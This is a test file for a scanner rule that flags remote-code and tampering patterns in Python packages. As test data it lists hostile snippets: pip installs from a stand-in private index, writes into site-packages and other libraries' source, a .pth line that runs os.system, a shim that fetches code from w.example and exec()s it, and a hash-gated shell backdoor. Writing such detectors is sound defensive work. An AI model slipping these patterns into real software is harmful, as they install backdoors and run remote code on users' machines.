import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const worst = (code: string) => findingsOf(rule, { 'a.py': code }, { dialect: 'comfyvn' })[0]?.severity ?? 'nothing';
const all = (expected: string, codes: readonly string[]): void => {
  for (const code of codes) assert.equal(worst(code), expected, code);
};
const DIGEST = '"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"';

test('packages from an index of somebody’s own, however the command is put together', () => {
  const run = 'import subprocess, sys\nPIP = [sys.executable, "-m", "pip", "install"]\n';
  all('high', [
    `${run}subprocess.run(PIP + ["--index-url", "https://w.example/simple", "openai"])\n`,
    `${run}args = PIP + list(more)\nargs += ["--extra-index-url=https://w.example/simple"]\nsubprocess.run(args)\n`,
    `${run}args = [*PIP, "-q"]\nargs.extend(["-i", "https://w.example/simple"])\nargs.append("openai")\nsubprocess.check_call(args)\n`,
    'import os\nINDEX = "https://w.example/simple"\nos.system("pip install --find-links %s openai" % INDEX)\n',
    'from pip._internal.cli.main import main\nmain(["install", "--index-url", "https://w.example/simple", "x"])\n',
    `${run}args = PIP + ["-q"]\nargs.append("https://w.example/a-1.0-py3-none-any.whl")\nsubprocess.run(args)\n`,
  ]);
  all('nothing', [
    `${run}args = list(PIP)\nargs += ["--index-url", "https://download.pytorch.org/whl/cu121", "torch"]\nsubprocess.check_call(args)\n`,
    `${run}subprocess.run(PIP + ["-i", "https://pypi.tuna.tsinghua.edu.cn/simple", "torch"])\n`,
    `${run}subprocess.run(PIP + ["-r", "requirements.txt"])\n`,
    `${run}subprocess.run(PIP + ["--index-url", settings.index, "torch"])\n`,
    'import subprocess\nargs = ["curl", "-f"]\nargs.append("https://example.org/a.json")\nsubprocess.run(args)\n',
  ]);
});

test('an index in a table, in a variable of the environment, in a file of the package, or only a server that is trusted', () => {
  const install = 'import os, subprocess, sys\ndef go():\n    subprocess.run([sys.executable, "-m", "pip", "install", ';
  const own = '"https://w.example/simple"';
  all('high', [
    `NEED = {"a": ["--index-url", ${own}, "a-cuda"]}\n${install}*NEED["a"]])\n`,
    `import os\nAT = ${own}\nos.environ["PIP_EXTRA_INDEX_URL"] = AT\n${install}"a"])\n`,
    `INDEX = ${own}\nOPTS = ("-i", INDEX)\n${install}*OPTS, "a"])\n`,
    `${install}"a"], env={**os.environ, "PIP_INDEX_URL": ${own}})\n`,
    `import os\nos.environ["PIP_EXTRA_INDEX_URL"] = ${own}\n${install}"a"])\n`,
    `${install}"--trusted-host", "w.example", "-r", "more.txt"])\n`,
  ]);
  all('nothing', [
    `NEED = {"a": ["--index-url", "https://download.pytorch.org/whl/cu121", "torch"]}\n${install}*NEED["a"]])\n`,
    `${install}"-i", "https://mirrors.aliyun.com/pypi/simple", "--trusted-host", "mirrors.aliyun.com", "a"])\n`,
    `CURL = ["-f", ${own}]\n${install}"a"])\n`,
  ]);
  const listed = (line: string): string => findingsOf(rule, { 'a.py': `${install}"-r", "more.txt"])\n`, 'more.txt': `${line}\na==1.0\n` }, { dialect: 'comfyvn' })[0]?.severity ?? 'nothing';
  assert.equal(listed('--index-url https://w.example/simple'), 'high');
  assert.equal(listed('# --index-url https://w.example/simple'), 'nothing');
  assert.equal(listed('--extra-index-url https://download.pytorch.org/whl/cu121'), 'nothing');
});

test('files among the packages of Python, or in the source of one', () => {
  all('high', [
    'import site\nopen(site.getsitepackages()[0] + "/a.py", "w").write(x)\n',
    'import sysconfig\nfrom pathlib import Path\ndef folders():\n    yield Path(sysconfig.get_paths()["purelib"])\nfor folder in folders():\n    (folder / "a.py").write_text(x)\n',
    'import os, sys\nwith open(os.path.join(sys.prefix, "lib", "site-packages", "a.py"), "w") as file:\n    file.write(x)\n',
    'import importlib.util\nfrom pathlib import Path\nspec = importlib.util.find_spec("host")\nmain = Path(spec.origin)\nmain.write_text(main.read_text() + MORE)\n',
    'import openai\nwith open(openai.__file__, "a") as file:\n    file.write(MORE)\n',
    'import inspect, requests\nfrom pathlib import Path\nPath(inspect.getsourcefile(requests)).write_text(x)\n',
    'import shutil, site\nshutil.copy("a.py", site.getusersitepackages())\n',
    'LINE = "import os; os.system(0)"\n(folder / "a.pth").write_text(LINE)\n',
  ]);
  all('nothing', [
    'import inspect, os\nhere = os.path.dirname(inspect.getfile(inspect.currentframe()))\nopen(os.path.join(here, "cache.json"), "w").write(x)\n',
    'import mine, os\nopen(os.path.join(os.path.dirname(mine.__file__), "version.json"), "w").write(x)\n',
    'import mine, pathlib\npath = pathlib.Path(mine.__file__).parent / "data" / "a.txt"\npath.write_text("a")\n',
    'from pathlib import Path\nPath(__file__).with_name("a.json").write_text(x)\n',
    'import site\nprint(open(site.getsitepackages()[0] + "/a.py").read())\n',
    'from pathlib import Path\nPath("model.pth").write_bytes(data)\n',
    'import torch\ntorch.save(model, "model.pth")\n',
  ]);
});

test('a text that is Python and runs what a server answers', () => {
  all('high', [
    'SHIM = \'\'\'\ndef go():\n    import urllib.request as r\n    code = r.urlopen("https://w.example/a.py", timeout=3).read()\n    exec(code, {})\ngo()\n\'\'\'\nopen("a.py", "w").write(SHIM)\n',
    'SHIM = "import requests\\nexec(requests.get(\'https://w.example/a\').text)\\n"\nwrite(SHIM)\n',
  ]);
  all('nothing', [
    'TEXT = """import requests\nprint(requests.get("https://w.example/a").text)\n"""\n',
    'TEXT = """import urllib.request\ndata = urllib.request.urlopen("https://w.example/a").read()\nexec(open("a.py").read())\n"""\n',
  ]);
});

test('a word that is only known by its hash, where commands are run that nobody can tell', () => {
  const opens = `import hashlib, subprocess\nWORD = ${DIGEST}\nclass Support:\n    def __init__(self, word):\n        self.ok = hashlib.sha256(word.encode()).hexdigest() == WORD\n`;
  all('high', [
    `${opens}    def ask(self, what):\n        return subprocess.run(what, shell=True)\n`,
    `import hashlib, os\ndef go(word, text):\n    made = hashlib.new("sha256", bytes(word, "utf-8")).hexdigest()\n    if made != ${DIGEST}:\n        return\n    os.system(text)\n`,
  ]);
  all('nothing', [
    `${opens}    def ask(self, what):\n        return subprocess.run(["ffmpeg", "-i", what])\n`,
    `import hashlib, subprocess\nif hashlib.sha256(open(path, "rb").read()).hexdigest() != ${DIGEST}:\n    raise ValueError\nsubprocess.run(command)\n`,
    'import hashlib, subprocess\nif hashlib.md5(text.encode()).hexdigest() == known.get("hash"):\n    subprocess.run(command)\n',
  ]);
});
